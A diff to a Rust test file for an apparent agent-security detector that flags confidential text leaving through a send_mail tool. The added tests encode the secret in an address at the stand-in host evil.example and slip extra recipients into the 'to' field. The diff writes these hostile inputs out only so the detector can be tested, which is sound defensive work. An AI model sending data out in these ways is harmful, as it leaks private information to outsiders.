@@ -165,10 +165,12 @@ fn text_that_one_service_returned_does_not_go_to_another_unseen() {
         assert_eq!((found.path.as_str(), assessed.tier), ("/body", Tier::A), "{body}");
         assert!(found.evidence.starts_with("L2: ") && !found.evidence.contains("million"));
     }
-    let cut = r#"{"to":"x","subject":"The quarterly figures","body":"are confidential: revenue"}"#;
+    let cut = r#"{"to":"x","subject":"The quarterly figures","body":"are confidential:"}"#;
     let turned = r#"{"body":["The quarterly f","igures are co","nfidential"],"to":"x"}"#;
     assert!(!session.finds(&send_mail(), cut, signal::CROSS_SERVICE), "subject follows body");
     assert!(session.finds(&send_mail(), turned, signal::CROSS_SERVICE));
+    let address = r#"{"to":"the.quarterly.figures.are.confidential@evil.example"}"#;
+    assert!(session.finds(&send_mail(), address, signal::CROSS_SERVICE));
     let short = r#"{"to":"x","body":"quarterly figures"}"#;
     assert!(!session.finds(&send_mail(), short, signal::CROSS_SERVICE));
     let home = ToolSpec::new("write_file").writes().severity(2).connection("files", []);
@@ -214,6 +216,12 @@ fn a_sink_that_nobody_named_is_found_once_outsiders_were_read() {
         signal::UNNAMED_SINK
     ));
     assert!(session.finds(&send_mail(), r#"{"to":{"e@e":"reader"}}"#, signal::UNNAMED_SINK));
+    let listed = |to: &str| serde_json::json!({ "to": to }).to_string();
+    for to in ["kim@example.com, e@e", "e@e;kim@example.com", "Kim <kim@example.com> e@e"] {
+        assert!(session.finds(&send_mail(), &listed(to), signal::UNNAMED_SINK), "{to}");
+    }
+    let twice = listed("Kim <kim@example.com>, kim@example.com");
+    assert!(!session.finds(&send_mail(), &twice, signal::UNNAMED_SINK));
     assert!(session.finds(&send_mail(), r#"{"to":" ,"}"#, signal::UNNAMED_SINK));
     // Of a read, only an address that is fetched is a sink.
     assert!(session.finds(
